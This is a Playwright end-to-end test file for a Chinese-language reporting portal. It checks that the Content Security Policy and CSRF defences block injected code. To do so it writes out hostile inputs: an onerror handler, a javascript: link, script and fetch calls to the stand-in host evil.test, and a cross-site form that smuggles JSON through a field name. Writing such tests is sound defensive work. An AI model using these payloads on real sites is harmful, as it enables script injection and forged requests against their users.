import type { Page } from 'playwright-core'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { newId } from '../../server/new-id.ts'
import { openPortal, type Portal } from './portal.ts'

let portal: Portal
beforeAll(async () => {
  portal = await openPortal()
})
afterAll(() => portal?.close())

/** A page that writes down what its policy forbade from the first moment on, and what the console says of it. */
async function watched(path: string): Promise<{ page: Page; forbidden: () => Promise<readonly string[]> }> {
  const context = await portal.browser.newContext()
  const said: string[] = []
  await context.addInitScript(() => {
    const list: string[] = []
    Object.assign(window, { forbidden: list })
    document.addEventListener('securitypolicyviolation', (event) =>
      list.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
    )
  })
  const page = await context.newPage()
  page.setDefaultTimeout(30_000)
  page.on('console', (message) => {
    if (/Content.Security.Policy|Refused to/i.test(message.text())) said.push(message.text())
  })
  await page.goto(portal.url + path)
  const forbidden = async () => [
    ...(await page.evaluate(() => (window as unknown as { forbidden: string[] }).forbidden)),
    ...said,
  ]
  return { page, forbidden }
}

describe('no page does what its policy forbids', () => {
  test('the form with a photograph, the receipt, the look-up, what was found', async () => {
    const { page, forbidden } = await watched('/submit')
    await page.getByLabel('您想说什么？').fill('井盖松了。')
    const buffer = await sharp({ create: { width: 40, height: 30, channels: 3, background: 'red' } })
      .png()
      .toBuffer()
    await page.locator('input[type=file]').setInputFiles([{ name: '井盖.png', mimeType: 'image/png', buffer }])
    await page.getByRole('button', { name: '提交' }).click()
    await page.getByText('已上传').waitFor()
    await page.getByRole('link', { name: '看看办到哪一步' }).click()
    await page.getByRole('blockquote').waitFor()
    expect(await forbidden()).toEqual([])
    await page.context().close()
  })

  test.each([
    ['/', '.balance'],
    ['/book', '.matters-total'],
    ['/look-up', '[name=number]'],
    ['/nowhere', 'h1'],
  ])('%s', async (path, until) => {
    const { page, forbidden } = await watched(path)
    await page.locator(until).first().waitFor()
    await page.evaluate(() => document.fonts.ready)
    expect(await forbidden()).toEqual([])
    await page.context().close()
  })

  test('the reader of the interface, with an operation opened', async () => {
    const { page, forbidden } = await watched('/api/docs/')
    await page.locator('.opblock-summary').first().click()
    await page.locator('.opblock-body').first().waitFor()
    await page.waitForLoadState('networkidle')
    expect(await forbidden()).toEqual([])
    await page.context().close()
  })
})

describe('what somebody puts into a page does nothing', () => {
  const ran = (page: Page) => page.evaluate(() => 'ran' in window)

  test('scripts, handlers, styles and addresses written into it', async () => {
    const { page, forbidden } = await watched('/book')
    await page.locator('.matters-total').first().waitFor()
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.ran = 1'
      document.body.append(script)
      const holder = document.createElement('div')
      holder.innerHTML =
        '<img src="/nothing.png" onerror="window.ran = 2"><a id="go" href="javascript:window.ran = 3">x</a><style>body { outline: 9px solid red }</style><b id="styled" style="color: red">x</b>'
      document.body.append(holder)
      document.getElementById('go')?.click()
    })
    // The picture that is not there is found to be missing last.
    for (const directive of [
      'script-src-elem inline',
      'script-src-attr inline',
      'style-src-elem inline',
      'style-src-attr inline',
    ])
      await expect.poll(async () => (await forbidden()).join('\n')).toContain(directive)
    expect((await forbidden()).length).toBeGreaterThan(4)
    expect(await ran(page)).toBe(false)
    expect(await page.evaluate(() => getComputedStyle(document.body).outlineWidth)).not.toBe('9px')
    await page.context().close()
  })

  test('nothing is loaded from another place, sent there, or made of words', async () => {
    const { page } = await watched('/book')
    const outcome = await page.evaluate(async () => {
      const loaded = (element: HTMLElement) =>
        new Promise<string>((resolve) => {
          element.addEventListener('load', () => resolve('loaded'))
          element.addEventListener('error', () => resolve('refused'))
          document.head.append(element)
        })
      const made = (): string => {
        try {
          return String(Reflect.construct(Function, ['return "made"'])())
        } catch {
          return 'refused'
        }
      }
      return {
        script: await loaded(Object.assign(document.createElement('script'), { src: 'https://evil.test/a.js' })),
        data: await loaded(
          Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran=1' }),
        ),
        image: await loaded(Object.assign(document.createElement('img'), { src: 'https://evil.test/a.png' })),
        fetched: await fetch('https://evil.test/').then(
          () => 'loaded',
          () => 'refused',
        ),
        made: made(),
      }
    })
    expect(outcome).toEqual({
      script: 'refused',
      data: 'refused',
      image: 'refused',
      fetched: 'refused',
      made: 'refused',
    })
    expect(await ran(page)).toBe(false)
    await page.context().close()
  })

  test('no other site puts a page of ours into a frame', async () => {
    const context = await portal.browser.newContext()
    const page = await context.newPage()
    const said: string[] = []
    page.on('console', (message) => said.push(message.text()))
    await page.setContent(`<iframe src="${portal.url}/submit"></iframe>`)
    await expect.poll(() => said.join()).toMatch(/frame-ancestors/)
    await context.close()
  })
})

test('what a page of another site makes the browser send is refused', async () => {
  const context = await portal.browser.newContext()
  await context.addCookies([{ name: 'lianxin', value: 'x'.repeat(40), url: portal.url, sameSite: 'Lax' }])
  const page = await context.newPage()
  // The same machine under another name is another site.
  const foreign = portal.url.replace('127.0.0.1', 'localhost')
  await page.route(`${foreign}/`, (route) => route.fulfill({ contentType: 'text/html', body: '<h1>evil</h1>' }))
  await page.goto(`${foreign}/`)
  const text = `由别的网站代交 ${newId()}`
  const answered = page.waitForResponse((response) => response.url().endsWith('/api/submissions'))
  await page.evaluate(
    ({ to, id, words }) => {
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: `${to}/api/submissions`, enctype: 'text/plain', target: '_self' })
      const field = document.createElement('input')
      Object.assign(field, { name: `{"id":"${id}","text":"${words}","address":"`, value: '"}' })
      form.append(field)
      document.body.append(form)
      form.submit()
    },
    { to: portal.url, id: newId(), words: text },
  )
  expect((await answered).status()).toBe(403)
  const { rows } = (
    await portal.served.call('GET', `/api/matters?words=${encodeURIComponent('由别的网站代交')}`, {
      as: ['dispatcher'],
    })
  ).body
  expect(rows).toEqual([])
  await context.close()
})
